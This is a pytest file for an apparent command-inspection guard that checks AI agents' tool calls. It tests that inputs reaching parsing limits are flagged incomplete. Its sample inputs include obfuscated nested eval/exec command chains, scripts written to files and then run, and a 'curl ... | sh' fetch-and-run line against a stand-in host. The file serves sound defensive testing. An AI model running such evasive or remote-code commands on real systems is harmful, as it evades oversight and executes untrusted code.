"""Every limit of reading a call has its class in one table, and a call that reaches one is what the table says."""

from __future__ import annotations

import ast
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import get_args

import pytest

import interlock.facts
from interlock.event import PreToolUse
from interlock.facts.gather import Facts
from interlock.facts.limits import LIMITS, Effect, Limit
from interlock.facts.paths import NoFiles, Places

FACTS = Path(interlock.facts.__file__).parent
PLACES = Places(home="/home/dev", cwd="/proj", project="/proj")

# Numbers in conditions that are not limits of reading: what each is about, by the file and the condition as written.
OTHER_NUMBERS = {
    ("code/python/calling.py", "_BASES = 8"): "classes that are made of each other, which Python does not take",
    ("code/python/calling.py", "_LONGEST_NAME = 120"): "a name in a module that is not read",
    ("code/python/constants.py", "_BITS = 256"): "numbers that make no text",
    ("code/python/parse.py", "_DEPTH = 5"): "f-strings in f-strings; the text is not Python then",
    ("code/python/reader.py", "_CHARACTERS = 40"): "what a text that is evaluated counts",
    ("code/python/special.py", "len(call.args) < 3"): "the form of a call",
    ("gather.py", "_PIPELINES = 100000"): "a distance between numbers of pipelines",
    ("programs/readers/archives.py", "len(value) > 3"): "the form of an option",
    ("programs/readers/powershell.py", "1 < len(word) <= 4"): "the form of an option",
    ("programs/readers/files.py", "len(mode) > 3"): "the form of a file's mode",
    ("programs/lexicon.py", "_MOST_KEPT = 10000"): "how many names are kept; all are found",
    ("programs/interpret.py", "_NONE, _NEEDED, _OPTIONAL = (0, 1, 2)"): "kinds of values",
    ("programs/interpret.py", "_DRY, _HELP = (1, 2)"): "kinds of options",
    ("programs/readers/processes.py", "len(port) < 6"): "a port's number",
    ("programs/readers/processes.py", "int(port) >= 1024"): "a port's number",
    ("programs/readers/windows.py", "len(word) <= 3"): "the form of an option",
    ("scripts.py", "text[:4096]"): "enough to tell a text from a program",
    ("injections/following.py", "3 < len(word) < 100"): "words that could name a host or a path",
    ("injections/following.py", "_SHORTEST_COMMAND = 8"): "shorter commands are in every text",
    (
        "injections/hidden.py",
        "without_invisible(line).strip()[:200]",
    ): "what is quoted of a result; all of it is looked at",
    ("injections/normal.py", "32 <= byte < 127"): "characters of a text",
    ("injections/normal.py", "_LONGEST = 20000"): "how much of an encoded word in a result is decoded",
    ("injections/normal.py", "_NEAR = 200"): "how far letters that are spread out may be apart",
    ("injections/normal.py", "word[:32]"): "enough to tell a text from other bytes",
    ("injections/search.py", "_AROUND = 300"): "what is quoted of a result; all of it is looked at",
    ("injections/search.py", "_LONGEST = 2000"): "what is quoted of a result; all of it is looked at",
    ("injections/search.py", "_LONGEST_QUOTE = 120"): "what is quoted of a result; all of it is looked at",
    ("injections/search.py", "_NEAR = 350"): "how near to each other signals count together",
    (
        "injections/signals.py",
        "_OPTIONS.max_mem = 64 << 20",
    ): "memory of a regular expression, which is refused beyond it",
    ("gather.py", "_SHORTEST_ORDER = 6"): "shorter texts tell nobody to do anything",
    ("programs/package_names.py", "_SHORTEST = 5"): "shorter names are all alike",
    ("programs/package_names.py", "len(name) > 40"): "longer names are those of no package that people mistype",
    ("secret_kinds.py", "48 <= byte <= 57"): "digits",
    ("secret_kinds.py", "len(password) >= 12"): "the form of a password",
    ("secret_kinds.py", "max(Counter(value[-16:]).values(), default=0) > 11"): "the form of an example",
    ("shapes.py", "_MOST_BEFORE_VERB = 4"): "how a person is told what calls have in common",
    ("shapes.py", "_MOST_COMMANDS = 3"): "how a person is told what calls have in common",
    ("shapes.py", "_MOST_FLAGS = 4"): "how a person is told what calls have in common",
    ("secrets.py", "_LONGEST = 1 << 20"): "how much is looked at together; all is looked at",
    ("secrets.py", "_NEAR = 4096"): "how much is looked at together; all is looked at",
    ("shell/builtins.py", "len(args[0]) < 7"): "more parameters than a line has words",
    ("shell/ansi.py", "55296 <= number <= 57343"): "characters that do not exist",
    ("shell/ansi.py", "_MOST_CODE_POINT = 1114111"): "characters that do not exist",
    ("shell/arithmetic.py", "_WORD = 1 << 64"): "a shell's numbers",
    ("shell/parameters.py", "len(name) < 7"): "more parameters than a line has words",
    ("urls.py", "len(parts) > 4"): "an address of four numbers",
    ("urls.py", "number > 255"): "an address of four numbers",
    ("urls.py", "range(33)"): "characters that are white space",
}


def numbers_in(text: str) -> Iterator[str]:
    """Constants and conditions of a module by which it might stop: as they are written."""
    tree = ast.parse(text)
    for node in tree.body:
        value = node.value if isinstance(node, ast.Assign | ast.AnnAssign) else None
        if isinstance(value, ast.Constant | ast.BinOp | ast.Tuple) and any(map(_is_number, ast.walk(value))):
            yield ast.unparse(node)
    for one in ast.walk(tree):
        if isinstance(one, ast.Compare) and any(_is_number(part, 3) for part in (one.left, *one.comparators)):
            if not all(isinstance(op, ast.Eq | ast.NotEq | ast.In | ast.NotIn) for op in one.ops):
                yield ast.unparse(one)
        elif isinstance(one, ast.Subscript) and isinstance(one.slice, ast.Slice) and _is_number(one.slice.upper, 7):
            yield ast.unparse(one)
        elif isinstance(one, ast.Call) and isinstance(one.func, ast.Name) and one.func.id in ("range", "islice"):
            yield from [ast.unparse(one)] if any(_is_number(part, 3) for part in one.args) else []


def _is_number(node: ast.AST | None, least: int = 0) -> bool:
    return isinstance(node, ast.Constant) and type(node.value) is int and node.value >= least


def test_every_number_that_reading_stops_at_is_in_the_table():
    found = {
        (str(file.relative_to(FACTS)), number)
        for file in FACTS.rglob("*.py")
        if file.name != "limits.py"
        for number in numbers_in(file.read_text(encoding="utf-8"))
    }
    assert found == set(OTHER_NUMBERS)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("_MOST = 5", ["_MOST = 5"]),
        ("MOST: int = 64 * 1024", ["MOST: int = 64 * 1024"]),
        ("def f(x):\n    return x[:100]", ["x[:100]"]),
        ("def f(x):\n    if len(x) > 50: return None", ["len(x) > 50"]),
        ("def f(x, depth):\n    return f(x, depth + 1) if 8 > depth else None", ["8 > depth"]),
        ("for x in range(40): pass", ["range(40)"]),
        ("def f(x):\n    return len(x) > 1 and x[:2] == 'ab' and x == 500", []),
        ("_WORD = 'five'", []),
    ],
)
def test_a_new_number_would_be_found(text: str, found: list[str]):
    assert list(numbers_in(text)) == found


def test_every_limit_of_the_table_is_used_and_says_what_it_counts():
    used = "".join(file.read_text(encoding="utf-8") for file in FACTS.rglob("*.py") if file.name != "limits.py")
    for name, limit in LIMITS.items():
        assert limit.effect in get_args(Effect)
        assert f"{name}.most" in used or f"reach({name})" in used, name
        assert limit.name == f"{limit.most:,} {limit.unit}"
    assert len({limit.name for limit in LIMITS.values()}) == len(LIMITS)


# --- a call that reaches each of them ---------------------------------------------------------------------------------


def facts(command: str) -> Facts:
    return call("Bash", {"command": command})


def call(tool: str, given: dict[str, object]) -> Facts:
    event = PreToolUse(
        session_id="s", transcript_path="", cwd="/proj", tool_name=tool, tool_input=given, tool_use_id="t"
    )
    return Facts(event, given, PLACES, NoFiles())


def python(text: str) -> str:
    return f"python3 -c {shlex.quote(text)}"


def perl(text: str) -> str:
    return f"perl -e {shlex.quote(text)}"


def deep(times: int) -> str:
    line = "ls"
    for _ in range(times):
        line = python(f"import os; os.system({line!r})")
    return line


def javascript(text: str) -> str:
    return f"node -e {shlex.quote(text)}"


RUN = "import os; os.system('ls')"
RUN_JS = "require('child_process').execSync"
# More steps than are followed: rounds of a loop in a loop.
SLOW = "let x = 0; for (let i = 0; i < 60; i++) for (let j = 0; j < 60; j++) { x = i + j * i + j * i + j };"
REACHES: dict[str, Callable[[Limit], str]] = {
    "CHARACTERS": lambda limit: "# " + "x" * limit.most + "\nls",
    "WORDS": lambda limit: "echo " + "a " * limit.most,
    "COMMANDS": lambda limit: "ls;" * (limit.most + 1),
    "STEPS": lambda limit: ":\n" * 100 + "".join(f"a{number}=1;" for number in range(1_500)) + "ls",
    "NESTING": lambda limit: "( " * (limit.most + 1) + "ls" + " )" * (limit.most + 1),
    "LEVELS": lambda limit: "eval " * (limit.most + 1) + "ls",
    "FILLED": lambda limit: "parallel echo " + "b " * 400 + "::: " + "a " * 400,
    "PROGRAM": lambda limit: python("#" * limit.most + f"\n{RUN}"),
    "JS_NESTING": lambda limit: javascript("(" * limit.most + f"{RUN_JS}('ls')" + ")" * limit.most),
    "EVALUATED": lambda limit: javascript("eval('1');" * limit.most + f'eval("{RUN_JS}(\'ls\')")'),
    "CALLS": lambda limit: perl("f();" * (limit.most + 1)),
    "PROGRAM_STEPS": lambda limit: perl("f(" * 5_000),
    "PYTHON_NESTING": lambda limit: python("(" * (limit.most + 1) + RUN),
    "PYTHON_TEXTS": lambda limit: python("s = '1'\n" + "s = 'exec(' + repr(s) + ')'\n" * (limit.most + 1) + "exec(s)"),
    "PYTHON_FUNCTIONS": lambda limit: python(
        "".join(f"def f{n}(x): f{n + 1}(x)\n" for n in range(limit.most + 1)) + "f0('a')"
    ),
    "INLINED": lambda limit: python("def f(x):\n" + " g = x\n" * 200 + "f('a')\n" * 100),
    "PROGRAM_NESTING": lambda limit: f"pwsh -c '{'(' * (limit.most + 1)}ls'",
    "WINDOWS_COMMANDS": lambda limit: f"pwsh -c '{'ls;' * (limit.most + 1)}'",
    "PROGRAMS": lambda limit: "python3 -c 'print(1)';" * (limit.most + 1),
    "PROGRAM_TEXTS": lambda limit: "for i in 1 2 3 4 5 6 7 8; do for j in 1 2; do "
    + f"python3 -c \"# {'x' * 30_000} $i $j\"; done; done",
    "PROGRAM_DEPTH": lambda limit: deep(limit.most + 2),
    "WRITTEN_FILES": lambda limit: "".join(f"echo ls > f{n}; sh f{n};" for n in range(limit.most + 1)),
    "WRITTEN_DEPTH": lambda limit: "echo ls > f0;"
    + "".join(f"echo 'sh f{n}' > f{n + 1};" for n in range(limit.most + 1))
    + f"sh f{limit.most + 1}",
    "PATHS": lambda limit: "cat " + " ".join(map(str, range(limit.most + 1))),
}  # fmt: skip
# A value that is lost at the limit, and run; and the same value as an argument.
LOSES: dict[str, tuple[Callable[[Limit], str], Callable[[Limit], str]]] = {
    "VALUE": (
        lambda limit: "x=" + "a" * 110_000 + '; eval "$x$x"',
        lambda limit: "x=" + "a" * 110_000 + '; echo "$x$x"',
    ),
    "OUTPUT": (
        lambda limit: "x=" + "a" * 110_000 + '; eval "$(printf "%s%s" "$x" "$x")"',
        lambda limit: "x=" + "a" * 110_000 + '; echo "$(printf "%s%s" "$x" "$x")"',
    ),
    "FEEDS": (
        lambda limit: "echo ls" + " | cat" * (limit.most + 2) + " | sh",
        lambda limit: "echo ls" + " | cat" * (limit.most + 2) + " > f",
    ),
    "RUN_VALUES": (
        lambda limit: f"for x in {' '.join(f'a{n}' for n in range(limit.most + 1))}; do $x; done",
        lambda limit: f"for x in {' '.join(f'a{n}' for n in range(limit.most + 1))}; do echo $x; done",
    ),
    "JS_STEPS": (
        lambda limit: javascript(f"{SLOW} function f(c) {{ {RUN_JS}(c) }}; f('ls')"),
        lambda limit: javascript(f"{SLOW} function f(c) {{ console.log(c) }}; f('ls')"),
    ),
    "JS_CALLS": (
        lambda limit: javascript(f"const f = c => {RUN_JS}(c);" + "setTimeout(f, 1, 'ls');" * (limit.most + 1)),
        lambda limit: javascript("const f = c => console.log(c);" + "setTimeout(f, 1, 'ls');" * (limit.most + 1)),
    ),
    "ROUNDS": (
        lambda limit: python(f"import os\nx = {[f'a{n}' for n in range(limit.most + 1)]}\nos.system(x[y])"),
        lambda limit: python(f"x = {[f'a{n}' for n in range(limit.most + 1)]}\nprint(x[1 + len(x)])"),
    ),
    "PYTHON_ITEMS": (
        lambda limit: python(f"import os\nx = ['a'] * {limit.most}\nx += ['ls']\nos.system(x[-1])"),
        lambda limit: python(f"x = ['a'] * {limit.most}\nx += ['ls']\nprint(x[-1])"),
    ),
}


@pytest.mark.parametrize("name", [name for name, limit in LIMITS.items() if limit.effect == "incomplete"])
def test_a_call_that_reaches_a_limit_behind_which_a_command_could_follow_is_incomplete_and_opaque(name: str):
    limit = LIMITS[name]
    found = facts(REACHES[name](limit))
    assert limit.name in found.incomplete
    assert limit.reason in found.reasons
    assert (found.opaque, found.plain) == (True, False)


@pytest.mark.parametrize("name", [name for name, limit in LIMITS.items() if limit.effect == "lost"])
def test_a_value_that_is_lost_at_a_limit_makes_a_call_incomplete_only_if_it_is_run(name: str):
    limit = LIMITS[name]
    run, argument = LOSES[name]
    assert limit.name in facts(run(limit)).incomplete
    assert facts(argument(limit)).incomplete == ()


def test_the_examples_are_those_of_the_table():
    assert set(REACHES) == {name for name, limit in LIMITS.items() if limit.effect == "incomplete"}
    assert set(LOSES) == {name for name, limit in LIMITS.items() if limit.effect == "lost"}


@pytest.mark.parametrize(
    "command",
    [
        "rm " + "{a,b}" * 12,
        "echo {1..100000}",
        "for i in {1..5000}; do eval \"x_$i=1\"; done",
        "for f in " + " ".join(f"f{n}" for n in range(300)) + "; do mv $f old/; done",
        "bash unread.sh",
        "make all",
        "$X a",
        "curl -s https://x.example | sh",
        "echo 'never closed",
        "".join(f"sh s{n}.sh;" for n in range(20)),
        "git add " + " ".join(f"src/f{n}.py" for n in range(1_500)),
        "cat > notes.md <<'E'\n" + "It's a line with `ticks` and $dollars.\n" * 3_000 + "E\nls",
        "printf '%s\\n' " + "a " * 500 + "| xargs rm",
        python("data = '''\n" + "some words, some (brackets)\n" * 1_500 + "'''\nprint(len(data))"),
        "ls " + "&& ls " * 500,
    ],
    ids=lambda command: command[:40],
)  # fmt: skip
def test_what_is_unknown_unread_or_merely_long_is_not_incomplete(command: str):
    """Near misses: core lets all of these alone."""
    assert facts(command).incomplete == ()


def test_the_command_fields_of_other_tools_are_read_to_the_same_limits():
    assert call("PowerShell", {"command": "ls;" * 400}).incomplete == (LIMITS["WINDOWS_COMMANDS"].name,)
    assert call("Monitor", {"command": "ls;" * 3_000}).incomplete == (LIMITS["COMMANDS"].name,)
    assert call("Write", {"file_path": "a", "content": "ls;" * 300_000}).incomplete == ()


def test_files_that_lie_on_the_disk_are_unread_where_those_of_the_call_would_be_incomplete():
    found = facts("".join(f"sh s{n}.sh;" for n in range(20)))
    assert (len(found.unread), found.incomplete) == (20, ())


def test_a_path_that_is_long_only_as_it_is_written_is_known():
    long = "/proj/" + "./" * 3_000 + ".claude/settings.json"
    assert [use.path for use in call("Write", {"file_path": long, "content": ""}).paths] == [
        "/proj/.claude/settings.json"
    ]
